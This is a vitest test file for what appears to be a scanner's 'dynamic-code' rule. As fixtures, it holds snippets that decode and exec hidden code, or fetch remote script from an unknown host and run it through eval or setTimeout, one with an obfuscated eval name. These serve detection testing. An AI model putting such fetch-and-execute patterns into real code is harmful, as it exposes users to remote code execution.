import { describe, expect, it } from 'vitest'
import { SEVERITIES, type Severity } from '../../domain/report'
import { findingsOf } from '../testing/bundleOf'

const bad: Array<[string, Record<string, string | Uint8Array>, Severity]> = [
  ['decoded text in exec', { 'a.py': 'import base64\nexec(base64.b64decode(blob))\n' }, 'critical'],
  [
    'fetched text in eval',
    { 'a.js': "fetch('https://cdn.unknown-vendor.net/x.js').then(r => r.text()).then(t => eval(t))\n" },
    'critical',
  ],
  [
    'names put together at run time',
    {
      'a.py':
        'import urllib.request as u\ng = getattr(__builtins__, "ev" + "al")\ng(u.urlopen("https://cdn.unknown-vendor.net/x").read())\n',
    },
    'critical',
  ],
  [
    'fetched text in a timer',
    {
      'a.js':
        "const task = await fetch('https://cdn.unknown-vendor.net/x.js').then((r) => r.text())\nsetTimeout(task, 50)\n",
    },
    'critical',
  ],
]

const good: Array<[string, Record<string, string | Uint8Array>]> = [
  ['decoding data', { 'a.py': 'import base64\nopen("a.png", "wb").write(base64.b64decode(blob))\n' }],
  [
    'waiting between questions to a server',
    {
      'a.mjs':
        "const state = await fetch('https://api.acme.io/job').then((r) => r.json())\nif (!state.done) await new Promise((r) => setTimeout(r, 2000))\n",
    },
  ],
]

describe('dynamic-code', () => {
  it.each(bad)('finds %s', async (_, files, severity) => {
    const found = await findingsOf('dynamic-code', files)
    expect(found.map((finding) => SEVERITIES.indexOf(finding.severity))).toContain(SEVERITIES.indexOf(severity))
  })

  it.each(good)('leaves %s alone', async (_, files) => {
    expect(await findingsOf('dynamic-code', files, 'high')).toEqual([])
  })
})
